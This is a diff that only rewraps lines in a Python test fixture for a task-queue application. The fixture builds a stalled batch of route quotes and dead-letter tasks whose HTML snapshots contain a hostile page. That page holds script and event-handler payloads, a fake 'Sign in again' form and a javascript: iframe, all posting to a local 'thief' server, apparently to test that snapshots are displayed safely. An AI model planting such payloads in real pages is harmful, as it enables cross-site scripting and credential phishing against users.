@@ -1,4 +1,5 @@
-"""What the demo has none of: a batch of quotes that gets stuck on a route, and dead letters with hostile snapshots."""
+"""What the demo has none of: a batch of quotes that gets stuck on a route, and dead letters with
+hostile snapshots."""
 
 from __future__ import annotations
 
@@ -20,7 +21,8 @@ HOSTILE_PAGE = """<html><head><title>captured</title>
 <script>parent.document.title = "taken"; fetch("{thief}/told", {method: "POST"})</script>
 <img src="{thief}/seen.png" onerror="parent.document.title = 'taken'">
 <form action="{thief}/" method="post">
-<button>Sign in again</button></form><iframe src="javascript:parent.document.title='taken'"></iframe></body></html>"""
+<button>Sign in again</button></form>
+<iframe src="javascript:parent.document.title='taken'"></iframe></body></html>"""
 
 
 class Thief:
@@ -60,12 +62,20 @@ class Scenery:
     shop_is_open: asyncio.Event = field(default_factory=asyncio.Event)
 
     async def stuck_batch(self, name: str, *, quotes: int = 12, answered: int = 5) -> int:
-        """The first quotes are answered, then the route falls silent; whoever asks it again gets an answer."""
-        batch = await self.app.open_batch(name, stall_after=1.0, max_resumes=5, details={"route": "SP → RJ / transportadora 7"})
+        """The first quotes are answered, then the route falls silent; whoever asks it again gets an
+        answer."""
+        batch = await self.app.open_batch(
+            name, stall_after=1.0, max_resumes=5, details={"route": "SP → RJ / transportadora 7"}
+        )
         args = [{"number": number} for number in range(quotes)]
         keys = [f"{name}-{number:03}" for number in range(quotes)]
         for given, key in zip(args, keys, strict=True):
-            await self.app.enqueue("route-quotes", {**given, "number": given["number"] - answered}, key=key, batch=batch)
+            await self.app.enqueue(
+                "route-quotes",
+                {**given, "number": given["number"] - answered},
+                key=key,
+                batch=batch,
+            )
         return batch
 
     async def dead_letters(self, count: int, code: str = "BLOCKED_PAGE") -> list[int]:
@@ -77,10 +87,15 @@ class Scenery:
 async def scenery(database_url: str) -> AsyncIterator[Scenery]:
     registry = Registry()
     settings = Settings(sweep_seconds=0.5, batches_seconds=0.3, drain_seconds=1.0)
-    async with Thief().waiting() as thief, Regente(database_url, settings=settings, pipelines=registry) as app:
+    async with (
+        Thief().waiting() as thief,
+        Regente(database_url, settings=settings, pipelines=registry) as app,
+    ):
         set_up = Scenery(app, thief)
 
-        @registry.pipeline("route-quotes", args=QuoteArgs, retry=Retry(max_attempts=1), stall_after=None)
+        @registry.pipeline(
+            "route-quotes", args=QuoteArgs, retry=Retry(max_attempts=1), stall_after=None
+        )
         async def quotes(task: Task[QuoteArgs]) -> dict[str, int]:
             if task.args.number >= 0 and task.attempt == 1:
                 await asyncio.Event().wait()  # the route never answers this one
@@ -90,7 +105,11 @@ async def scenery(database_url: str) -> AsyncIterator[Scenery]:
         async def shop_pages(task: Task[ShopArgs]) -> str:
             if not set_up.shop_is_open.is_set():
                 task.snapshot("page.html", HOSTILE_PAGE.replace("{thief}", thief.url))
-                raise Fatal("the shop shows a page without prices", code=task.args.code, details={"status": 403})
+                raise Fatal(
+                    "the shop shows a page without prices",
+                    code=task.args.code,
+                    details={"status": 403},
+                )
             return task.args.product
 
         running = asyncio.create_task(app.run(concurrency=20, name="scenery"))
